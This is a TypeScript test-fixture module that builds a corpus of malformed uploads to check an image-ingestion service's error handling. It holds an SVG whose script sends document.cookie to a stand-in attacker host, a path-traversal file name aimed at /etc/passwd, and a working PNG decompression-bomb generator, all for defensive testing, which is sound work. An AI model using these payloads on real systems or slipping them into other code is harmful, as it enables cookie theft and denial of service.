import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Sharp } from 'sharp';
import type { ErrorCode } from '../../src/contracts/errors.ts';

export interface CorpusEntry {
  /** Name of the file written under the corpus folder: always a plain, safe file name. */
  fileName: string;
  /** The name the seller's upload carried, which may be hostile (`../../etc/passwd.jpg`). */
  originalName: string;
  /** What ingesting it must give: an error code, success, or a duplicate of an earlier entry. */
  expected: ErrorCode | 'ok' | 'duplicate';
}

export const DEFAULT_CORPUS_MAX_BYTES = 2 * 1024 * 1024;

/**
 * Writes, by code, the uploads a real batch of bad input contains, and returns what each must
 * give. `maxBytes` is the byte limit of the processor under test: one file is made larger.
 */
export async function writeBadInputCorpus(dir: string, maxBytes = DEFAULT_CORPUS_MAX_BYTES): Promise<CorpusEntry[]> {
  await mkdir(dir, { recursive: true });
  const entries: CorpusEntry[] = [];
  const add = async (originalName: string, content: Uint8Array, expected: CorpusEntry['expected']): Promise<void> => {
    const fileName = encodeSafeFileName(originalName);
    await writeFile(path.join(dir, fileName), content);
    entries.push({ fileName, originalName, expected });
  };

  const jpeg = await renderJpeg(640, 480, 'teal');
  await add('truncated.jpg', jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), 'CORRUPT_IMAGE');
  await add('empty.jpg', new Uint8Array(0), 'EMPTY_FILE');
  await add('notes.jpg', Buffer.from('Blue denim jacket, size M, pit to pit 21 inches.\n', 'utf8'), 'UNSUPPORTED_TYPE');
  await add('bomb.png', craftPngBomb(30_000, 30_000), 'IMAGE_TOO_LARGE');
  await add('drawing.svg', Buffer.from(SVG_WITH_SCRIPT, 'utf8'), 'UNSUPPORTED_TYPE');
  await add('invoice.pdf', Buffer.from(MINIMAL_PDF, 'latin1'), 'UNSUPPORTED_TYPE');
  await add('animation.gif', await renderAnimatedGif(), 'UNSUPPORTED_TYPE');
  await add('photos.zip', craftZip('photo.txt', Buffer.from('not a photo\n', 'utf8')), 'UNSUPPORTED_TYPE');
  await add('huge.jpg', await renderOversizedJpeg(maxBytes), 'FILE_TOO_LARGE');
  await add('фото 🧥.jpg', await renderJpeg(800, 600, 'darkorange'), 'ok');
  await add('../../etc/passwd.jpg', await renderJpeg(600, 800, 'slateblue'), 'ok');
  const twin = await renderJpeg(1024, 768, 'olive');
  await add('jacket-front.jpg', twin, 'ok');
  await add('jacket-front (1).jpg', twin, 'duplicate');
  await add('label.png', await renderPicture(700, 500, 'crimson').png().toBuffer(), 'ok');
  await add('hanger.webp', await renderPicture(900, 600, 'gold').webp({ quality: 85 }).toBuffer(), 'ok');
  await add('IMG_4032.HEIC', await renderDistinctHeic('corpus'), 'ok');
  return entries;
}

/**
 * A file name that cannot leave the folder or hide: path separators and leading dots are
 * percent-encoded, everything else (including non-Latin letters and emoji) is kept.
 */
export function encodeSafeFileName(originalName: string): string {
  const encoded = originalName.replace(/[%/\\\0]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);
  return encoded.replace(/^\./, '%2E');
}

/** A picture with edges and a gradient, so it is neither flat nor blurry. */
function renderPicture(width: number, height: number, colour: string): Sharp {
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
    `<defs><linearGradient id="g"><stop offset="0" stop-color="${colour}"/><stop offset="1" stop-color="white"/></linearGradient></defs>` +
    `<rect width="100%" height="100%" fill="url(#g)"/>` +
    `<rect x="${width / 5}" y="${height / 5}" width="${width / 3}" height="${height / 3}" fill="black"/>` +
    `<circle cx="${(width * 2) / 3}" cy="${(height * 2) / 3}" r="${height / 6}" fill="white" stroke="black" stroke-width="6"/>` +
    `</svg>`;
  return sharp(Buffer.from(svg, 'utf8'));
}

async function renderJpeg(width: number, height: number, colour: string): Promise<Buffer> {
  return renderPicture(width, height, colour).jpeg({ quality: 90 }).toBuffer();
}

/** A valid JPEG padded after its end marker: readers ignore trailing bytes, the size check must not. */
async function renderOversizedJpeg(maxBytes: number): Promise<Buffer> {
  const jpeg = await renderJpeg(640, 480, 'navy');
  const padding = Buffer.alloc(Math.max(0, maxBytes + 1024 * 1024 - jpeg.length));
  return Buffer.concat([jpeg, padding]);
}

/**
 * An iPhone-style HEVC HEIC. Nothing here can encode HEVC, so it is the checked-in fixture (see
 * test/integration/images/fixtures/README.md) with an ISOBMFF `free` box appended: same
 * picture, different bytes, so it is not a duplicate of the fixture uploaded elsewhere.
 */
async function renderDistinctHeic(tag: string): Promise<Buffer> {
  const heic = await readFile(new URL('../integration/images/fixtures/quadrants-p3.heic', import.meta.url));
  const box = Buffer.alloc(8 + Buffer.byteLength(tag, 'latin1'));
  box.writeUInt32BE(box.length, 0);
  box.write('free', 4, 'latin1');
  box.write(tag, 8, 'latin1');
  return Buffer.concat([heic, box]);
}

async function renderAnimatedGif(): Promise<Buffer> {
  const width = 64;
  const frameHeight = 64;
  const frames = Buffer.alloc(width * frameHeight * 2 * 3);
  for (let y = 0; y < frameHeight * 2; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const p = (y * width + x) * 3;
      const firstFrame = y < frameHeight;
      frames[p] = firstFrame ? 220 : 20;
      frames[p + 1] = 40;
      frames[p + 2] = firstFrame ? 20 : 220;
    }
  }
  return sharp(frames, { raw: { width, height: frameHeight * 2, channels: 3, pageHeight: frameHeight } })
    .gif({ loop: 0, delay: [200, 200] })
    .toBuffer();
}

/**
 * A decompression bomb: a valid PNG header declaring `width`×`height` RGB pixels, with one
 * small compressed chunk of zero rows. A few KB on disk; decoding it in full would need GBs.
 */
export function craftPngBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bits per channel
  header[9] = 2; // RGB
  const rowBytes = 1 + width * 3;
  const rows = Math.max(1, Math.floor((4 * 1024 * 1024) / rowBytes));
  const idat = deflateSync(Buffer.alloc(rowBytes * rows), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    craftPngChunk('IHDR', header),
    craftPngChunk('IDAT', idat),
    craftPngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function craftPngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length, 0);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(computeCrc32(typed), 0);
  return Buffer.concat([length, typed, crc]);
}

/** A ZIP archive holding one stored (uncompressed) file. */
export function craftZip(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name, 'utf8');
  const crc = computeCrc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4); // version made by
  central.writeUInt16LE(20, 6); // version needed
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const centralOffset = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

/** CRC-32 as PNG and ZIP use it (zlib.crc32 is missing from early Node 20 releases). */
function computeCrc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">
  <rect width="400" height="300" fill="tomato"/>
  <script>fetch('https://attacker.invalid/?c=' + document.cookie)</script>
</svg>
`;

/** The smallest PDF most readers open: one empty page, with a correct cross-reference table. */
const MINIMAL_PDF = buildMinimalPdf();

function buildMinimalPdf(): string {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return body;
}
